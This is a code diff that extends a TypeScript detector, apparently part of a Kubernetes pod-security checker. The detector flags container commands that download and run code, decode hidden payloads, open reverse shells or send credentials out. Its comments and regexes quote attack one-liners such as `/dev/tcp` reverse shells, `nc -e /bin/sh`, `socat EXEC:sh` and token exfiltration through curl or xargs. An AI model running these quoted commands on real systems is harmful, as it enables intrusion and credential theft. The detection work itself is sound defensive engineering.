@@ -1,7 +1,7 @@
 import { isObject, stringsOf, type Json, type Violation } from '../types.js';
 import type { RuleContext } from './context.js';
 import { CommandWork, PIECE_COST } from './command-work.js';
-import { readShell } from './shell.js';
+import { readShell, RUNNERS } from './shell.js';
 
 /** A container and where it is (pod-security.ts's ContainerAt, which calls this: named here by shape, not imported). */
 interface Container {
@@ -179,8 +179,14 @@ export function commandShape(words: readonly string[], source?: string, setting:
 
 /** A substitution whose output is the environment or a credential (`$(cat …/token)`, `$(env)`): followed through a variable. */
 function carriesCredential(inner: string): boolean {
-  return CREDENTIAL_PATH.test(inner) || ENV_INLINE.test(`$(${inner})`);
+  return CREDENTIAL_PATH.test(inner) || ENV_INLINE.test(`$(${inner})`) || DOWNLOAD_OR_DECODE.test(inner);
 }
+
+/**
+ * A substitution whose output is a download or a decoded text (`s=$(curl …)`, `s=$(… | base64 -d)`):
+ * followed too, so that `echo "$s" | sh` is the download piped into the interpreter.
+ */
+const DOWNLOAD_OR_DECODE = /(?:^|[\s|;&(])(?:[\w./-]*\/)?(?:curl|wget|fetch|aria2c)\s|\bbase(?:64|32)\s+(?:-[a-zA-Z]*d|--decode)/;
 
 /** The interpreter a script's `#!` line names (`#!/usr/bin/env python3` is python3), else sh. */
 function shebangOf(source: string): string[] {
@@ -225,10 +231,15 @@ function clusterEnv(script: string, setting: CommandSetting): ReadonlyMap<string
 const DOWNLOADERS = new Set(['curl', 'wget', 'fetch', 'aria2c']);
 const INTERPRETERS = new Set(['sh', 'bash', 'ash', 'dash', 'zsh', 'ksh', 'mksh', 'python', 'python2', 'python3', 'perl', 'ruby', 'node', 'php', 'pwsh', 'powershell', 'lua', 'eval', 'source', '.']);
 const SENDERS = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet']);
+const REMOTE_COPIERS = new Set(['ssh', 'scp', 'sftp']);
+/** A socket client told to run a program for its peer (`nc -e /bin/sh h p`, `socat TCP:h:p EXEC:sh`). */
+const REMOTE_SHELL = /^(?:-[a-zA-Z]*[ec]|--(?:exec|sh-exec|lua-exec))$/;
+const SOCAT_PROGRAM = /\b(?:EXEC|SYSTEM):\s*['"]?(?:[\w./-]*\/)?(?:sh|bash|ash|dash|zsh|ksh|python[0-9.]*|perl)\b/i;
 /** curl's and wget's flags that send a body (curl `-d@-`, `--data-binary @file`, `-F`, `-T`). */
 const SEND_FLAG = /^(?:-d|-F|-T|--data(?:-[a-z]+)?|--form(?:-string)?|--upload-file|--json|--post-(?:data|file)|--body-(?:data|file))(?:$|=|@)|^-[a-zA-Z]*[dFT](?:$|@)/;
 /** curl's and wget's flags that write a file (`-o x`, `-O`, `--output`, wget's default unless `-O-`). */
-const FILE_FLAG = /^(?:-o|-O|--output|--remote-name(?:-all)?|--output-document|-[a-zA-Z]*[oO])(?:$|=)/;
+const FILE_FLAG = /^(?:-o|-O|--output|--remote-name(?:-all)?|--output-document|-[a-zA-Z]*[oO])(?:$|=)|^-[a-zA-Z]*O[a-zA-Z]+$/;
+const AWKS = new Set(['awk', 'gawk', 'mawk', 'nawk']);
 const UNPACKERS = new Set(['tar', 'unzip', 'gunzip', 'bunzip2', 'xz', 'unxz', 'zcat', 'cpio', 'busybox']);
 /**
  * Where a pod keeps what identifies it or its node, and the environment of a process. The secrets
@@ -291,7 +302,7 @@ const RESOLVERS = new Set(['nslookup', 'dig', 'host', 'drill', 'kdig', 'delv', '
  * Code an interpreter is given (`python3 -c`, `node -e`, `perl -e`, `ruby -e`) that opens the
  * network: the HTTP clients and sockets of the standard libraries and the usual packages.
  */
-const NETWORK_CODE = /\burllib|\brequests\.|\bhttp\.client|\bhttpx\b|\bsocket\b|\bfetch\(|\bhttps?\.(?:request|get)\(|\bnet\.(?:connect|createConnection)\b|Net::HTTP|LWP::|HTTP::Tiny|IO::Socket|\bTCPSocket\b|\bopen-uri\b|\bInvoke-WebRequest\b|\bInvoke-RestMethod\b|\bWebClient\b|\bfile_get_contents\s*\(\s*["']https?:|\bcurl_exec\b|\bfsockopen\b|\bstream_socket_client\b/;
+const NETWORK_CODE = /\burllib|\brequests\.|\bhttp\.client|\bhttpx\b|\bsocket\b|\bfetch\(|\bhttps?\.(?:request|get)\(|\bnet\.(?:connect|createConnection)\b|Net::HTTP|LWP::|HTTP::Tiny|IO::Socket|\bTCPSocket\b|\bopen-uri\b|\bInvoke-WebRequest\b|\bInvoke-RestMethod\b|\b(?:iwr|irm)\s|\bDownloadString\b|\bWebClient\b|\bfile_get_contents\s*\(\s*["']https?:|\bcurl_exec\b|\bfsockopen\b|\bstream_socket_client\b/;
 /** The whole environment in an interpreter's code (not one variable of it: `os.environ['URL']`). */
 const ENV_CODE = /\bos\.environ\b(?!\s*(?:\[|\.get\b))|\bprocess\.env\b(?!\s*[[.])|%ENV\b(?!\s*\{)|\bENV\.to_h\b/;
 /** An interpreter handed a download's text (`sh -c "$(curl …)"`, `bash <(wget -qO- …)`). */
@@ -301,6 +312,8 @@ const WRAPPERS = new Set(['sudo', 'exec', 'nohup', 'command', 'time', 'nice', 's
 const SCRATCH_RUN = /^(?:\.\/|\/tmp\/|\/dev\/shm\/|\/var\/tmp\/)/;
 
 interface Stage {
+  /** A runner in front of the program (`xargs`, `timeout`: shell.ts RUNNERS). */
+  readonly via?: string;
   readonly program: string;
   readonly words: readonly string[];
   readonly text: string;
@@ -309,10 +322,18 @@ interface Stage {
 function scriptShape(script: string, setting: CommandSetting, work: CommandWork): CommandShape | undefined {
   let downloaded = false;
   let decodedKept = false;
+  // The files a download was written to (`curl -o /opt/x …`, `wget -O x …`, `… | tee /tmp/i`): run
+  // later by any name of theirs, as a program, by an interpreter, or as its input (`sh < /opt/x`).
+  const kept = new Set<string>();
+  // A group's commands (`{ curl …; } | sh`): what the group fetched or decoded feeds the stage after its `}`.
+  let group = 0;
+  let groupFetched = false;
+  let groupDecoded = false;
   // The whole-script passes (clusterEnv, sendsInCode), then each segment as it is split.
   if (!work.take(2 * script.length)) return 'over_budget';
   const inCluster = clusterEnv(script, setting);
-  for (const segment of script.split(/&&|\|\||;|&|\n/)) {
+  // A `&` of a redirection (`>& /dev/tcp/…`, `2>&1`, `&> f`) is not a command's end.
+  for (const segment of script.split(/&&|\|\||;|(?<![<>])&(?!>)|\n/)) {
     const parts = segment.split('|');
     if (!work.take(segment.length + PIECE_COST * parts.length)) return 'over_budget';
     const stages = parts.map(stageOf);
@@ -323,28 +344,48 @@ function scriptShape(script: string, setting: CommandSetting, work: CommandWork)
     // (`… | base64 -d > /tmp/s; sh /tmp/s`): the decoded shape through a file.
     if (decodedKept && (SCRATCH_RUN.test(first.program) || (INTERPRETERS.has(first.program) && first.words.slice(1).some((w) => SCRATCH_RUN.test(w))))) return 'decoded_run';
     if (INTERPRETERS.has(first.program) && SUBSTITUTED_DOWNLOAD.test(segment)) return 'fetch_run';
-    let fetchAt = -1;
-    let decodeAt = -1;
+    if (kept.size > 0 && stages.some((s) => runsKept(s, kept))) return 'download_run';
+    const opens = first.words[0] === '{';
+    const closes = first.words[0] === '}';
+    if (opens) group++;
+    let fetchAt = closes && groupFetched ? 0 : -1;
+    let decodeAt = closes && groupDecoded ? 0 : -1;
+    if (closes && group > 0 && --group === 0) groupFetched = groupDecoded = false;
     let sourceAt = -1;
+    let shellAt = -1;
     for (let i = 0; i < stages.length; i++) {
       const s = stages[i]!;
       if (fetchAt >= 0 && runsInput(s)) return 'fetch_run';
+      // A remote shell: the network's bytes run as commands, as they come (`bash -i >& /dev/tcp/h/p 0>&1`,
+      // `nc -e /bin/sh h p`, `socat TCP:h:p EXEC:sh`, `… | sh -i 2>&1 | nc h p > fifo`).
+      if (runsInput(s) && (s.text.includes('/dev/tcp/') || s.text.includes('/dev/udp/'))) return 'fetch_run';
+      if (SENDERS.has(s.program) && s.words.some((w) => REMOTE_SHELL.test(w)) && s.program !== 'socat') return 'fetch_run';
+      if (s.program === 'socat' && SOCAT_PROGRAM.test(s.text)) return 'fetch_run';
+      if (shellAt >= 0 && receives(s)) return 'fetch_run';
+      if (runsInput(s) && i > 0) shellAt = i;
       if (decodeAt >= 0 && runsInput(s)) return 'decoded_run';
       // `$(env)` or `$(cat …/token)` in a stage's own words: its output carries it (`echo "$(env)" | nc …`),
       // and so does what it sends or asks for (a URL, a header, a name to resolve).
       const inline = ENV_INLINE.test(s.text) || credentialInline(s.text);
       const source = inline || isSource(s);
-      if ((sourceAt >= 0 || source) && isSender(s, inCluster, inline)) return 'send_credentials';
+      // `cat …/token | xargs -I{} curl https://…?t={}`: xargs writes what it is piped into the downloader's words.
+      if ((sourceAt >= 0 || source) && isSender(s, inCluster, inline || (sourceAt >= 0 && s.program === 'xargs'))) return 'send_credentials';
       // A download kept as a file: written by the downloader, or by a later stage of its pipeline
       // (an unpacker, a redirection). One pass: a pipeline of half a million stages costs as much.
       if (fetchAt >= 0 && (UNPACKERS.has(s.program) || redirectsToFile(s.text))) downloaded = true;
+      if (fetchAt >= 0 && i > fetchAt) for (const f of writtenFiles(s)) kept.add(f);
       if ((decodeAt >= 0 || decodes(s)) && redirectsToFile(s.text)) decodedKept = true;
-      if (fetches(s)) {
+      if (receives(s)) {
         fetchAt = i;
         if (writesFile(s)) downloaded = true;
+        for (const f of writtenFiles(s)) kept.add(f);
+        if (group > 0) groupFetched = true;
       }
       if (source) sourceAt = i;
-      if (decodes(s)) decodeAt = i;
+      if (decodes(s)) {
+        decodeAt = i;
+        if (group > 0) groupDecoded = true;
+      }
     }
   }
   return sendsInCode(script, inCluster) ? 'send_credentials' : undefined;
@@ -370,10 +411,93 @@ function stageOf(text: string): Stage {
   }
   let i = 0;
   while (i < words.length && (WRAPPERS.has(words[i]!) || /^[A-Za-z_][A-Za-z0-9_]*=/.test(words[i]!))) i++;
+  // `timeout 60 sh`, `nice -n 5 sh`, `xargs -0 sh -c`: a runner's program is the interpreter among its words.
+  let via: string | undefined;
+  if (RUNNERS.has(base(words[i] ?? ''))) {
+    const run = words.findIndex((w, k) => k > i && INTERPRETERS.has(base(w)));
+    if (run >= 0) {
+      via = base(words[i]!);
+      i = run;
+    }
+  }
   const head = words[i] ?? '';
   // `/usr/bin/curl` is curl, `./xmrig` keeps its directory (where it runs from is the point).
   const program = SCRATCH_RUN.test(head) ? head : head.slice(head.lastIndexOf('/') + 1);
-  return { program, words: words.slice(i), text };
+  return { program, words: words.slice(i), text, ...(via !== undefined ? { via } : {}) };
+}
+
+/** A path's last part (`/usr/bin/curl` is curl). */
+function base(word: string): string {
+  return word.slice(word.lastIndexOf('/') + 1);
+}
+
+/**
+ * A stage whose output is what the network sent: a downloader, a socket client (`nc h p`, `socat -
+ * TCP:h:p`, `openssl s_client`), a read of `/dev/tcp/…` (also through a descriptor opened on it:
+ * shell.ts writes `<&3` back as the socket), or an interpreter given code that opens the network
+ * (`python3 -c "…urlopen(…).read()…"`).
+ */
+function receives(s: Stage): boolean {
+  if (fetches(s)) return true;
+  if (s.text.includes('/dev/tcp/') || s.text.includes('/dev/udp/')) return true;
+  if (SENDERS.has(s.program) || (s.program === 'openssl' && s.words.includes('s_client'))) return true;
+  if (s.program === 'socat') return true;
+  return INTERPRETERS.has(s.program) && codeStart(s.text) >= 0 && (NETWORK_CODE.test(s.text) || FETCH_CALL.test(s.text));
+}
+
+/**
+ * The files a stage of a download's pipeline writes, as named: a downloader's `-o x`, `--output=x`,
+ * `-O x` (wget), its remote name (`curl -O …/x`, wget's default: the URL's last part), a redirection
+ * (`> x`), `tee x`.
+ */
+function writtenFiles(s: Stage): string[] {
+  const out: string[] = [];
+  const w = s.words;
+  for (let i = 0; i < w.length; i++) {
+    const x = w[i]!;
+    const long = /^--(?:output|output-document)=(.+)$/.exec(x);
+    if (long !== null) out.push(long[1]!);
+    else if (/^(?:--output|--output-document)$/.test(x) || (/^-[a-zA-Z]*[oO]$/.test(x) && !(s.program === 'curl' && /O$/.test(x)))) {
+      if (w[i + 1] !== undefined) out.push(w[i + 1]!);
+    } else if (/^-[a-zA-Z]*[oO][^-\s]/.test(x) && (DOWNLOADERS.has(s.program) || s.program === '')) out.push(x.slice(x.search(/[oO]/) + 1));
+    const redirect = /^[0-9&]?>>?\|?(.*)$/.exec(x);
+    if (redirect !== null) {
+      const target = redirect[1] !== '' ? redirect[1]! : (w[i + 1] ?? '');
+      if (target !== '' && !target.startsWith('&') && !DISCARDED.test(target)) out.push(target);
+    }
+  }
+  if (s.program === 'tee') out.push(...w.slice(1).filter((x) => !x.startsWith('-')));
+  // A remote name: curl's -O, or wget with no -O of its own.
+  const remote = (s.program === 'curl' && w.some((x) => /^-[a-zA-Z]*O[a-zA-Z]*$|^--remote-name$/.test(x))) || (s.program === 'wget' && writesFile(s) && !w.some((x) => /^-[a-zA-Z]*O|^--output-document/.test(x)));
+  if (remote) for (const url of w.filter((x) => /^[a-z]+:\/\//i.test(x))) out.push(url.replace(/[?#].*$/, '').slice(url.replace(/[?#].*$/, '').lastIndexOf('/') + 1));
+  // wget's `-P dir` / `--directory-prefix=dir`: the remote name inside that directory.
+  const prefix = w.findIndex((x) => x === '-P' || x.startsWith('--directory-prefix'));
+  const dir = prefix < 0 ? undefined : w[prefix]!.includes('=') ? w[prefix]!.slice(w[prefix]!.indexOf('=') + 1) : w[prefix + 1];
+  const named = dir === undefined ? out : [...out, ...out.map((f) => `${dir.replace(/\/$/, '')}/${f}`)];
+  return named.map(keptName).filter((f) => f !== '' && f !== '-');
+}
+
+/** A file's name as kept, compared: `./x` is x, `$HOME/x` is `~/x`. */
+function keptName(path: string): string {
+  return path.replace(/^["']|["']$/g, '').replace(/^\$\{?HOME\}?\//, '~/').replace(/^(?:\.\/)+/, '');
+}
+
+/**
+ * A stage that runs a kept download: as its program (`/opt/x`, `./x`), by an interpreter or `.`
+ * (`sh /opt/x`, `. /tmp/x`), or as an interpreter's input (`sh < /opt/x`).
+ */
+function runsKept(s: Stage, kept: ReadonlySet<string>): boolean {
+  if (s.words.length === 0) return false;
+  if (kept.has(keptName(s.words[0]!))) return true;
+  if (!INTERPRETERS.has(s.program)) return false;
+  // The interpreter's input (`sh < /opt/x`), or the file it runs: its first operand, not a later
+  // one (`python train.py --data /data/train.csv` reads the download as data).
+  const args = s.words.slice(1);
+  const input = args.findIndex((w) => /^[0-9]?<$/.test(w));
+  if (input >= 0 && kept.has(keptName(args[input + 1] ?? ''))) return true;
+  if (args.some((w) => /^[0-9]?<[^<]/.test(w) && kept.has(keptName(w.replace(/^[0-9]?</, ''))))) return true;
+  const operand = args.find((w) => !w.startsWith('-'));
+  return operand !== undefined && kept.has(keptName(operand));
 }
 
 /** A blank (`\s`) or a quote: where stageOf splits a stage into words. */
@@ -393,8 +517,11 @@ function fetches(s: Stage): boolean {
 function decodes(s: Stage): boolean {
   if (s.program === 'zcat' || s.program === 'gunzip' || s.program === 'bzcat' || s.program === 'xzcat' || s.program === 'unxz' || s.program === 'zstdcat') return true;
   if (s.program === 'gzip' || s.program === 'bzip2' || s.program === 'xz' || s.program === 'zstd' || s.program === 'lz4') return s.words.some((w) => w === '--decompress' || /^-[a-zA-Z]*d/.test(w));
-  if (s.program === 'base64' || s.program === 'openssl' || s.program === 'base32') return s.words.some((w) => w === '-d' || w === '-D' || w === '--decode' || /^-[a-zA-Z]*d$/.test(w));
+  if (s.program === 'base64' || s.program === 'openssl' || s.program === 'base32' || s.program === 'basenc') return s.words.some((w) => w === '-D' || w === '--decode' || /^-[a-zA-Z]*d[a-zA-Z]*$/.test(w));
   if (s.program === 'xxd') return s.words.some((w) => /^-[a-zA-Z]*r/.test(w));
+  // `rev`, and `tr` mapping one set onto another (`tr a-z n-za-m`, rot13): a text kept unreadable.
+  if (s.program === 'rev') return true;
+  if (s.program === 'tr') return s.words.slice(1).filter((w) => !w.startsWith('-')).length >= 2 && !s.words.some((w) => /^-[a-zA-Z]*d/.test(w));
   return s.program === 'uudecode';
 }
 
@@ -429,6 +556,10 @@ function redirectsToFile(text: string): boolean {
  * own code that reads the pipe as data (`python3 -c 'import json,sys; …'`, `node -e …`, `jq`).
  */
 function runsInput(s: Stage): boolean {
+  // xargs hands what it is piped to the interpreter as its words: its code (`xargs -0 sh -c`) or the file it runs.
+  if (s.via === 'xargs' && INTERPRETERS.has(s.program)) return true;
+  // awk that runs its input lines (`awk '{system($0)}'`, `awk '{print | "sh"}'`).
+  if (AWKS.has(s.program)) return /\bsystem\s*\(|\|\s*"[^"]*\b(?:sh|bash)\b/.test(s.text);
   return INTERPRETERS.has(s.program) && !s.words.slice(1).some((w) => /^-[a-zA-Z]*[ceEm]$|^--eval$|^--command$/.test(w) || (s.program === 'php' && w === '-r'));
 }
 
@@ -440,6 +571,10 @@ function runsInput(s: Stage): boolean {
 function isSender(s: Stage, env: ReadonlyMap<string, string> | undefined, inline: boolean): boolean {
   if (s.text.includes('/dev/tcp/') || s.text.includes('/dev/udp/')) return true;
   if (s.words.some((w) => SENDERS.has(w.slice(w.lastIndexOf('/') + 1)))) return true;
+  // ssh and scp carry what they are given to another host; rsync when one of its operands is remote.
+  if (REMOTE_COPIERS.has(s.program) || (s.program === 'rsync' && s.words.some((w) => /^[\w.-]+@|::|^rsync:\/\/|^[\w.-]+:/.test(w)))) return true;
+  // curl's protocols that send its standard input as they connect (`curl telnet://h:p < …/token`).
+  if (fetches(s) && s.words.some((w) => /^(?:telnet|smtps?|mqtt|gopher|dict):\/\//i.test(w))) return true;
   // `openssl s_client -connect h:p` relays its stdin to the peer, as nc does.
   if (s.program === 'openssl' && s.words.includes('s_client')) return true;
   // A name lookup sends the names it is given, in its words or piped (`… | xargs -I{} nslookup {}.x.example`;
